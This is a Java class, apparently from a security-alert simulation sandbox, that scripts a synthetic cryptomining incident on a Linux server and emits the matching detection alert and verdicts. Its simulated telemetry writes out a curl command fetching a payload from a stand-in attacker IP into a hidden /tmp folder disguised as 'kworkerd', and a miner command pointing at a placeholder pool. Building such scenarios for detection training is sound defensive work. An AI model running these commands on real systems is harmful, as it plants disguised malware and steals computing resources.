package dev.huntgate.sandbox.company;

import java.time.Duration;

/** A web server that was made to dig for coins. */
final class MinerStory implements Story {

  @Override
  public Ending tell(Scene scene) {
    Device web = scene.dice().pick(scene.fleet().linuxServers());
    String ip = "198.51.100." + scene.dice().between(2, 250);
    scene.logon(web, Account.ROOT, "Network", null, ip, null);
    scene.later(Duration.ofMinutes(2));
    ProcessStart fetch =
        scene.start(
            web,
            Account.ROOT,
            Programs.CURL,
            "curl -fsSL http://" + ip + "/k -o /tmp/.x/kworkerd",
            Programs.BASH);
    scene.deeds(fetch).connects(ip, 80, "http://" + ip + "/k").creates(Programs.MINER, "");
    scene.later(Duration.ofMinutes(1));
    ProcessStart miner =
        scene.start(
            web,
            Account.ROOT,
            Programs.MINER,
            "/tmp/.x/kworkerd -o pool.coinreef.example:3333",
            fetch.asParent());
    scene
        .deeds(miner)
        .calls("203.0.113.9", 3_333, "pool.coinreef.example", 10, Duration.ofMinutes(1));
    scene.alert(
        Suspicion.endpoint(
                "Coin miner on a server",
                "A program in a hidden folder talks to a mining pool.",
                "Impact",
                Severity.MEDIUM,
                "T1496")
            .from(
                ServiceSource.MICROSOFT_DEFENDER_FOR_CLOUD,
                DetectionSource.MICROSOFT_DEFENDER_FOR_ENDPOINT),
        scene.seen(Verdict.SUSPICIOUS, new Subject.OfDevice(web), Role.COMPROMISED),
        scene.seen(Verdict.SUSPICIOUS, new Subject.OfProcess(fetch)),
        scene.seen(Verdict.MALICIOUS, new Subject.OfProcess(miner)),
        scene.seen(Verdict.MALICIOUS, new Subject.OfFile(Programs.MINER, web)),
        scene.seen(Verdict.MALICIOUS, new Subject.OfIp(ip, "UA"), Role.SOURCE),
        scene.seen(
            Verdict.MALICIOUS,
            new Subject.OfDns("pool.coinreef.example", "10.20.1.68", "203.0.113.9")));
    return new Ending(
        "Coin miner on " + web.hostName(),
        "A server was used to mine; it was reached over SSH from outside.",
        Severity.MEDIUM,
        Classification.TRUE_POSITIVE,
        Determination.UNWANTED_SOFTWARE);
  }
}
